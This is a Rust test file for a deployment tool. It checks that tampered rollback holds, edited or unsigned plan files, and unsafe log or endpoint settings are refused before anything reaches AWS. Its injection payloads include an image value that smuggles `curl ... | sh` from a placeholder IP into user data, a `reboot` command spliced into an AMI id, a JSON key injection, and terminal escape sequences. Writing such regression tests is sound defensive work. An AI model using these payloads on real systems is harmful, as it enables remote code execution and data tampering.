//! Issue 26: what deployer reads back from places others can write (the rollback hold in the
//! shared lock table, a saved plan file) cannot put a command into user data, a key into a
//! container definition, or a control sequence on the terminal. Each case is a round trip
//! against the emulator that reads back what AWS was given.

use std::collections::HashMap;

use aws_sdk_dynamodb::types::AttributeValue;

use crate::support::{Deployer, Moto, TEST_IMAGE, block_on};

const SHELL_PAYLOAD: &str = "ghcr.io/example/api:1.0'; curl -s http://203.0.113.9/x | sh; echo '";
const JSON_PAYLOAD: &str = "ghcr.io/deployer/api:1.0.0\", \"image\": \"ghcr.io/evil/api:1";
const TERMINAL_PAYLOAD: &str = "ghcr.io/deployer/api:1.0.0\r\u{1b}[2K";

/// Writes a hold item the way any principal with PutItem on the table could.
fn write_hold(moto: &Moto, environment: &str, image: &str) {
    let config = moto.sdk_config();
    block_on(async {
        let dynamodb = aws_sdk_dynamodb::Client::new(&config);
        let item = HashMap::from([
            (
                "environment".to_owned(),
                AttributeValue::S(format!("{environment}#hold")),
            ),
            ("image".to_owned(), AttributeValue::S(image.to_owned())),
            ("revision".to_owned(), AttributeValue::S("1\r\u{1b}[2K".to_owned())),
            ("holder".to_owned(), AttributeValue::S("mallory@host".to_owned())),
            ("started_at".to_owned(), AttributeValue::N("1764000000".to_owned())),
        ]);
        dynamodb
            .put_item()
            .table_name("deployer-locks")
            .set_item(Some(item))
            .send()
            .await
            .unwrap();
    });
}

/// The user data of the launch template's default version, decoded.
fn user_data(moto: &Moto) -> String {
    let ec2 = moto.ec2();
    block_on(async {
        let versions = ec2
            .describe_launch_template_versions()
            .launch_template_name("development-app")
            .versions("$Default")
            .send()
            .await
            .unwrap();
        let encoded = versions.launch_template_versions()[0]
            .launch_template_data()
            .and_then(|data| data.user_data())
            .unwrap()
            .to_owned();
        let bytes = aws_smithy_types::base64::decode(&encoded).unwrap();
        String::from_utf8(bytes).unwrap()
    })
}

/// A script bash accepts, whose `docker pull` and last word name exactly `image`.
fn assert_runs_only(script: &str, image: &str) {
    let checked = std::process::Command::new("bash")
        .args(["-n", "-c", script])
        .output()
        .unwrap();
    assert!(
        checked.status.success(),
        "bash -n: {}",
        String::from_utf8_lossy(&checked.stderr)
    );
    let pulls: Vec<&str> = script.lines().filter(|l| l.starts_with("docker pull ")).collect();
    assert_eq!(pulls, [format!("docker pull '{image}'")], "{script}");
    assert!(script.trim_end().ends_with(&format!("'{image}'")), "{script}");
    assert!(!script.contains("203.0.113.9"), "{script}");
}

#[test]
fn a_hold_written_by_anyone_is_refused_and_what_runs_stays_quoted() {
    let moto = Moto::start();
    Deployer::new(&moto)
        .args(["apply", "development", "--auto-approve"])
        .run()
        .expect_status(0);
    let script = user_data(&moto);
    assert_runs_only(&script, TEST_IMAGE);
    assert!(script.contains("--env TRUSTED_PROXY_CIDRS='10."), "{script}");

    for payload in [SHELL_PAYLOAD, JSON_PAYLOAD, TERMINAL_PAYLOAD] {
        write_hold(&moto, "development", payload);
        for command in [
            &["plan", "development"][..],
            &["apply", "development", "--auto-approve"],
        ] {
            let refused = Deployer::new(&moto)
                .without_image()
                .args(command)
                .run()
                .expect_status(1);
            assert!(
                refused.stderr.contains("the rollback hold of development names")
                    && refused.stderr.contains("refusing to run it"),
                "{}",
                refused.stderr
            );
            assert!(
                refused.stderr.contains("deployer rollback development --release"),
                "{}",
                refused.stderr
            );
            // The stored text is shown escaped: nothing in it moves the cursor or erases.
            assert!(
                !refused.stderr.contains('\r') && !refused.stderr.contains('\u{1b}'),
                "{:?}",
                refused.stderr
            );
        }
    }
    // Nothing reached the launch template.
    assert_runs_only(&user_data(&moto), TEST_IMAGE);

    // Named directly, the same values are refused before AWS is asked anything.
    for payload in [SHELL_PAYLOAD, JSON_PAYLOAD, TERMINAL_PAYLOAD] {
        let refused = Deployer::new(&moto)
            .args(["plan", "development", "--image", payload])
            .run()
            .expect_status(1);
        assert!(
            refused.stderr.contains("is not a container image reference"),
            "{}",
            refused.stderr
        );
        assert!(!refused.stderr.contains('\u{1b}'), "{:?}", refused.stderr);
    }
    let released = Deployer::new(&moto)
        .args(["rollback", "development", "--release"])
        .run()
        .expect_status(0);
    assert!(
        !released.stdout.contains('\u{1b}') && !released.stdout.contains('\r'),
        "{:?}",
        released.stdout
    );
}

#[test]
fn a_hold_cannot_add_keys_to_the_container_definitions() {
    let moto = Moto::start_with_tasks(2);
    Deployer::new(&moto)
        .args(["apply", "staging", "--auto-approve"])
        .run()
        .expect_status(0);
    write_hold(&moto, "staging", JSON_PAYLOAD);
    let refused = Deployer::new(&moto)
        .without_image()
        .args(["apply", "staging", "--auto-approve"])
        .run()
        .expect_status(1);
    assert!(refused.stderr.contains("refusing to run it"), "{}", refused.stderr);
    let containers = crate::support::running_containers(&moto, "staging");
    assert_eq!(containers.len(), 1);
    assert_eq!(containers[0].image(), Some(TEST_IMAGE));
    let environment: Vec<(&str, &str)> = containers[0]
        .environment()
        .iter()
        .map(|pair| (pair.name().unwrap_or_default(), pair.value().unwrap_or_default()))
        .collect();
    assert!(environment.contains(&("API_ENVIRONMENT", "staging")), "{environment:?}");
    assert!(
        environment
            .iter()
            .any(|(name, value)| *name == "TRUSTED_PROXY_CIDRS" && value.starts_with("10.")),
        "{environment:?}"
    );
}

/// A saved plan whose facts were edited is refused by `apply` and `show` alike; a plan signed
/// with DEPLOYER_PLAN_KEY is refused once changed, and only a signed one is carried out then.
#[test]
fn an_edited_saved_plan_is_refused_and_a_signed_one_cannot_be_edited() {
    let moto = Moto::start();
    let plans = tempfile::tempdir().unwrap();
    let file = plans.path().join("development.plan");
    let path = file.to_str().unwrap();
    Deployer::new(&moto)
        .args(["plan", "development", "--out", path])
        .run()
        .expect_status(0);
    let original = std::fs::read_to_string(&file).unwrap();
    let saved: serde_json::Value = serde_json::from_str(&original).unwrap();
    let ami = saved["facts"]["default_image_id"].as_str().unwrap().to_owned();

    let edit = |edit: &dyn Fn(&mut serde_json::Value)| {
        let mut value: serde_json::Value = serde_json::from_str(&original).unwrap();
        edit(&mut value);
        std::fs::write(&file, serde_json::to_string_pretty(&value).unwrap()).unwrap();
    };
    // Another AMI of the right shape: the recorded plan no longer matches its facts.
    edit(&|plan| plan["facts"]["default_image_id"] = "ami-0badbadbadbadbad0".into());
    for command in ["show", "apply"] {
        let refused = Deployer::new(&moto).args([command, path]).run().expect_status(1);
        assert!(
            refused
                .stderr
                .contains("the plan written in the file is not the plan its image and facts give"),
            "{command}: {}",
            refused.stderr
        );
    }
    // The text a reviewer reads, edited alone.
    edit(&|plan| plan["text"] = "No changes. Environment development matches its configuration.\n".into());
    let refused = Deployer::new(&moto).args(["show", path]).run().expect_status(1);
    assert!(refused.stderr.contains("the file was edited"), "{}", refused.stderr);
    // A value no AWS account gives, refused before it is used.
    edit(&|plan| plan["facts"]["default_image_id"] = format!("{ami}'; reboot; echo '").into());
    let refused = Deployer::new(&moto).args(["apply", path]).run().expect_status(1);
    assert!(refused.stderr.contains("facts.default_image_id"), "{}", refused.stderr);
    edit(&|plan| plan["image"] = SHELL_PAYLOAD.into());
    let refused = Deployer::new(&moto)
        .without_image()
        .args(["apply", path])
        .run()
        .expect_status(1);
    assert!(
        refused.stderr.contains("image: `ghcr.io/example/api:1.0'"),
        "{}",
        refused.stderr
    );
    let nothing = moto.ec2();
    let templates = block_on(nothing.describe_launch_templates().send()).unwrap();
    assert!(
        templates.launch_templates().is_empty(),
        "no refused plan created anything"
    );

    // Signed: any change to the file fails the signature; unsigned files are refused.
    let key = "k".repeat(48);
    Deployer::new(&moto)
        .env("DEPLOYER_PLAN_KEY", &key)
        .args(["plan", "development", "--out", path])
        .run()
        .expect_status(0);
    let signed = std::fs::read_to_string(&file).unwrap();
    assert!(signed.contains("\"signature\": \"hmac-sha256:"), "{signed}");
    let shown = Deployer::new(&moto)
        .env("DEPLOYER_PLAN_KEY", &key)
        .args(["show", path])
        .run()
        .expect_status(0);
    assert!(shown.stdout.contains(", signed"), "{}", shown.stdout);
    let unkeyed = Deployer::new(&moto).args(["show", path]).run().expect_status(1);
    assert!(
        unkeyed.stderr.contains("is signed; set DEPLOYER_PLAN_KEY"),
        "{}",
        unkeyed.stderr
    );
    std::fs::write(
        &file,
        signed.replace("\"explicit_image\": true", "\"explicit_image\": false"),
    )
    .unwrap();
    let tampered = Deployer::new(&moto)
        .env("DEPLOYER_PLAN_KEY", &key)
        .args(["apply", path])
        .run()
        .expect_status(1);
    assert!(
        tampered.stderr.contains("the signature does not match"),
        "{}",
        tampered.stderr
    );
    std::fs::write(&file, &original).unwrap();
    let unsigned = Deployer::new(&moto)
        .env("DEPLOYER_PLAN_KEY", &key)
        .args(["apply", path])
        .run()
        .expect_status(1);
    assert!(unsigned.stderr.contains("is not signed"), "{}", unsigned.stderr);

    // The untouched signed plan is carried out, and the instances pull what it named.
    std::fs::write(&file, &signed).unwrap();
    let applied = Deployer::new(&moto)
        .env("DEPLOYER_PLAN_KEY", &key)
        .args(["apply", path])
        .run()
        .expect_status(0);
    assert!(
        applied.stdout.contains("+ launch_template launch-template"),
        "{}",
        applied.stdout
    );
    assert_runs_only(&user_data(&moto), TEST_IMAGE);
}

/// At trace level the SDK prints whole requests and responses (ECR's push token among them):
/// capped at debug unless DEPLOYER_LOG_SECRETS=1. And credentials never go to another machine
/// in clear.
#[test]
fn trace_logging_keeps_the_sdks_bodies_out_and_plain_http_stays_on_this_machine() {
    let moto = Moto::start();
    let body_event = "received response from service";
    let traced = Deployer::new(&moto)
        .args(["-vvv", "plan", "development"])
        .run()
        .expect_status(0);
    assert!(
        traced.stderr.contains("TRACE"),
        "trace logging is on: {}",
        &traced.stderr[..traced.stderr.len().min(2000)]
    );
    assert!(
        !traced.stderr.contains(body_event),
        "the SDK's trace events got through"
    );
    let secrets = Deployer::new(&moto)
        .env("DEPLOYER_LOG_SECRETS", "1")
        .args(["-vvv", "plan", "development"])
        .run()
        .expect_status(0);
    assert!(
        secrets.stderr.contains(body_event),
        "DEPLOYER_LOG_SECRETS=1 lets them through"
    );

    let remote = Deployer::new(&moto)
        .args(["plan", "development", "--endpoint-url", "http://10.0.0.5:5000"])
        .run()
        .expect_status(1);
    assert!(
        remote.stderr.contains("is plain http to another machine"),
        "{}",
        remote.stderr
    );
}
